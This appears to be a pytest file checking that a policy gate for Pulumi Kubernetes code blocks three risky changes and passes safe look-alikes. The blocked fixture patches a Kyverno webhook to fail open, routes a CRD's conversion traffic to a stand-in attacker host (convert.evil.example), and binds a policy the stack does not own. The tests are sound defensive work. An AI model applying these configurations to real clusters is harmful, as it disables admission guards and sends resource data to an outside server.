"""`agentid preview` end to end on admission guards the stack does not own and CRD conversion webhooks (issue 11,
k8s12's known gaps, each of which passed the gate): a patch failing an existing validating webhook open, a CRD
converted by a server outside the cluster, and a MutatingAdmissionPolicyBinding switching on a policy the stack does
not create block. The look-alikes (a patch that keeps the guard failing closed, the stack's own CRD converted by an
in-cluster service, the stack's own policy bound through its name) pass."""

from __future__ import annotations

import pytest

from .conftest import AGENT_GUARD, run_cli
from .test_k8s_admission_gate import project  # a one-file Python project in tmp_path

pytestmark = pytest.mark.skipif(not (AGENT_GUARD / "PulumiPolicy.yaml").is_file(), reason="agent_guard pack not present")

HEADER = """import pulumi_kubernetes as k8s
from pulumi_kubernetes.admissionregistration import v1 as ar, v1alpha1 as ar_alpha
from pulumi_kubernetes.apiextensions import v1 as ext
from pulumi_kubernetes.meta.v1 import ObjectMetaArgs, ObjectMetaPatchArgs

def crd(name, client):
    return ext.CustomResourceDefinition(name, metadata=ObjectMetaArgs(name="widgets.agents.example.com"),
        spec=ext.CustomResourceDefinitionSpecArgs(group="agents.example.com", scope="Namespaced",
            names=ext.CustomResourceDefinitionNamesArgs(kind="Widget", plural="widgets"),
            versions=[ext.CustomResourceDefinitionVersionArgs(name="v1", served=True, storage=True)],
            conversion=ext.CustomResourceConversionArgs(strategy="Webhook", webhook=ext.WebhookConversionArgs(
                conversion_review_versions=["v1"], client_config=client))))
"""
BLOCKED = HEADER + """ar.ValidatingWebhookConfigurationPatch("fail-open", metadata=ObjectMetaPatchArgs(name="kyverno-resource"),
    webhooks=[ar.ValidatingWebhookPatchArgs(name="validate.kyverno.svc-fail", failure_policy="Ignore")])
crd("convert-out", ext.WebhookClientConfigArgs(url="https://convert.evil.example/c"))
ar_alpha.MutatingAdmissionPolicyBinding("switch-on", metadata=ObjectMetaArgs(name="everywhere"),
    spec=ar_alpha.MutatingAdmissionPolicyBindingSpecArgs(policy_name="istio-sidecar-everywhere"))
"""
LOOK_ALIKE = HEADER + """ar.ValidatingWebhookConfigurationPatch("fail-closed", metadata=ObjectMetaPatchArgs(name="kyverno-resource"),
    webhooks=[ar.ValidatingWebhookPatchArgs(name="validate.kyverno.svc-fail", failure_policy="Fail")])
crd("convert-in", ext.WebhookClientConfigArgs(service=ext.ServiceReferenceArgs(namespace="agents", name="conv")))
policy = ar_alpha.MutatingAdmissionPolicy("defaults", metadata=ObjectMetaArgs(name="widget-defaults"),
    spec=ar_alpha.MutatingAdmissionPolicySpecArgs(
        match_constraints=ar_alpha.MatchResourcesArgs(resource_rules=[ar_alpha.NamedRuleWithOperationsArgs(
            operations=["CREATE"], api_groups=["agents.example.com"], api_versions=["*"], resources=["widgets"])]),
        mutations=[ar_alpha.MutationArgs(patch_type="ApplyConfiguration",
                                         apply_configuration=ar_alpha.ApplyConfigurationArgs(expression="Object{}"))]))
ar_alpha.MutatingAdmissionPolicyBinding("switch-own", metadata=ObjectMetaArgs(name="widget-defaults"),
    spec=ar_alpha.MutatingAdmissionPolicyBindingSpecArgs(policy_name=policy.metadata.name))
"""


def test_weakened_guards_outside_conversion_and_unseen_policy_bindings_block(tmp_path):
    result = run_cli(project(tmp_path, BLOCKED), "--stack", "dev", "--policy-pack", str(AGENT_GUARD),
                     "--json", "gate.json")
    assert result.code == 1, result.stdout + result.stderr
    found = {(v["resourceName"], v["policy"]) for v in result.json("gate.json")["violations"] if v["mandatory"]}
    assert found == {("fail-open", "AGID-K8S-009"), ("convert-out", "AGID-K8S-009"),
                     ("switch-on", "AGID-K8S-011")}, found


def test_guards_kept_closed_in_cluster_conversion_and_own_policy_pass(tmp_path):
    result = run_cli(project(tmp_path, LOOK_ALIKE), "--stack", "dev", "--policy-pack", str(AGENT_GUARD),
                     "--json", "gate.json")
    assert result.code == 0, result.stdout + result.stderr
    assert [v for v in result.json("gate.json")["violations"] if v["mandatory"]] == []
